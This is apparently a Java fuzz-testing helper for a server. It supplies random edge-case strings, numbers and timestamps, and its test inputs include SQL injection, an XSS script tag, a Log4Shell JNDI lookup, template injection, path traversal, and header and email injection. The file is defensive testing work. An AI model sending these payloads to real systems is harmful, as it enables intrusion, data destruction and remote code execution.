package souk.server.fuzz;

import java.util.List;
import java.util.random.RandomGenerator;

/** Texts, numbers and times that programs have stumbled over. None of them looks like anything that would be a leak in an answer. */
final class Words {
    /** Also what is no text at all in UTF-8: a surrogate by itself. */
    private static final List<String> TEXTS = List.of("", " ", "\u0000", "a\u0000b", "\r\nSet-Cookie: a=b", "\t", "\u0007\u001b[31m", "\u007f", "\u0085", "\ufeff", "\uffff", "\ud83d\ude00", "\ud800", "\udc00\ud800",
            "\u202egnp.exe", "\u2066a\u2069", "\u200b", "\u200d", "e\u0301\u0301\u0301\u0301", "\u0130i\u0131I", "\u00df", "\ufb03", "\u1e9e", "\u0e33\u0e33", "\u05d0\u0628", "\ud835\udc00", "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67",
            "null", "undefined", "true", "NaN", "Infinity", "-0", "0x10", "1e9", "[]", "{}", "\"", "\\", "\\u0000", "'", "' OR '1'='1", "; DROP TABLE page; --", "<script>alert(1)</script>", "${7*7}", "${jndi:ldap://203.0.113.1/a}", "{{7*7}}",
            "%00", "%2e%2e%2f", "../../../../etc/hosts", "..\\..\\", "*", "?", "a*b?", "(a+)+$", "AND", "OR", "NOT a", "a~9999", "a^1e9", "\"a b\"~9", "name:x", "_id:1", "+-&|!(){}[]^~:/", "/.*/", "=1+1", "@SUM(A1)", "-1", "+", "a@b", "@", "a@@b",
            "a@b.example\r\nBcc: c@d.example", "xn--a", "\u3002", "\u2024", "GBP", "XXX", "gb", "GB", "made-up", "constructor", "__proto__", "CON", ".", "..", "~", "#", "a/b", "a;b=c", "a,b", "a=b&c=d");
    private static final List<String> NUMBERS = List.of("0", "-0", "1", "-1", "2147483647", "2147483648", "-2147483649", "9007199254740991", "9007199254740992", "9223372036854775807", "9223372036854775808", "-9223372036854775808", "0.5", "1.0", "1e0", "1e2",
            "1e400", "-1e400", "1e-400", "1E+2147483648", "1e99999999999", "0.1e1", "100000000000000000000000000000000000000", "00", "01", "+1", ".5", "5.", "0x1", "NaN", "1_000", "\u0661", "\uff11");
    private static final List<String> TIMES = List.of("1970-01-01T00:00:00Z", "0000-01-01T00:00:00Z", "-0001-12-31T23:59:59Z", "9999-12-31T23:59:59.999999999Z", "+10000-01-01T00:00:00Z", "+1000000000-12-31T23:59:59.999999999Z", "-1000000000-01-01T00:00:00Z",
            "2026-02-29T12:00:00Z", "2024-02-29T23:59:60Z", "2016-12-31T23:59:60Z", "2026-06-30T24:00:00Z", "2026-01-31T12:00:00+18:00", "2026-01-31T12:00:00-18:01", "2026-01-31t12:00:00z", "2026-01-31 12:00:00Z", "2026-01-31", "12:00", "2026-01-31T12:00:00",
            "2026-01-31T12:00:00.0000000000Z", "2026-13-01T00:00:00Z", "2026-W05-6", "1e9", "tomorrow", "2262-04-11T23:47:16.854775807Z", "2262-04-11T23:47:16.854775808Z", "2038-01-19T03:14:08Z");

    private Words() {}

    static <T> T one(RandomGenerator random, List<T> of) {
        return of.get(random.nextInt(of.size()));
    }

    /** One that a program has stumbled over, several of them, any letters of Unicode, or one very often. */
    static String text(RandomGenerator random) {
        return switch (random.nextInt(8)) {
            case 0, 1, 2 -> one(random, TEXTS);
            case 3 -> one(random, TEXTS) + one(random, TEXTS) + one(random, TEXTS);
            case 4 -> letters(random, random.nextInt(40));
            case 5 -> one(random, TEXTS).repeat(1 << random.nextInt(10));
            case 6 -> plain(random);
            default -> one(random, NUMBERS);
        };
    }

    /** Any letters of Unicode, halves of letters and what is none among them. */
    static String letters(RandomGenerator random, int many) {
        var text = new StringBuilder();
        for (int i = 0; i < many; i++) {
            switch (random.nextInt(4)) {
                case 0 -> text.append((char) random.nextInt(0x10000));
                case 1 -> text.appendCodePoint(random.nextInt(Character.MAX_CODE_POINT + 1));
                case 2 -> text.append((char) random.nextInt(0x100));
                default -> text.append((char) random.nextInt(0x20, 0x7f));
            }
        }
        return text.toString();
    }

    /** Without controls and halves of letters: what a person might type. */
    static String typed(RandomGenerator random, int least, int most) {
        var text = new StringBuilder();
        int many = least + random.nextInt(Math.max(1, Math.min(most, 60) - least + 1));
        while (text.length() < many) {
            int letter = random.nextInt(3) == 0 ? random.nextInt(0x20, 0xd800) : random.nextInt('a', 'z' + 1);
            if (Character.isDefined(letter) && !Character.isISOControl(letter) && Character.getType(letter) != Character.FORMAT) text.appendCodePoint(letter);
        }
        return text.toString();
    }

    static String plain(RandomGenerator random) {
        return Long.toString(random.nextLong(1L << 40), 36);
    }

    /** How a number might be written in JSON, or not. */
    static String number(RandomGenerator random) {
        return random.nextInt(3) == 0 ? Long.toString(random.nextLong()) : one(random, NUMBERS);
    }

    static String time(RandomGenerator random) {
        return one(random, TIMES);
    }
}
